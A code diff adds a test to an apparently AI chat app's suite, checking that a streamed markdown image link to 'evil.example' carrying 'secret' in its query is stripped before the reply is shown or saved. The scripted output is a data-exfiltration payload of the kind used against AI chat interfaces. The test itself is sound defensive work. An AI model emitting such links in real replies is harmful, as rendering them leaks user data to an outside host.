@@ -107,6 +107,22 @@ async def test_a_turn_retrieves_streams_cites_and_saves_both_messages(stage: Sta
     assert [reason for reason, _, _ in stage.metrics.turns] == ["stop"]
 
 
+async def test_an_address_that_a_page_would_fetch_never_reaches_the_reader(stage: Stage) -> None:
+    await open_with(stage)
+    stage.scripted.script = [
+        "Look ![at",
+        "](http://evil.example/?q=",
+        "secret) this",
+        ": <b>mind</b>",
+    ]
+
+    events = await stage.say("What do you fear?")
+
+    told = "".join(e.text for e in events if isinstance(e, TextDelta))
+    assert told == "Look at this: mind"
+    assert [m.content for m in await stage.messages()][-1] == told
+
+
 async def test_a_citation_slices_to_its_words_in_the_canonical_text(stage: Stage) -> None:
     await open_with(stage)
     stage.scripted.script = ["“ropes before weather” [1] and the bridge [2]."]
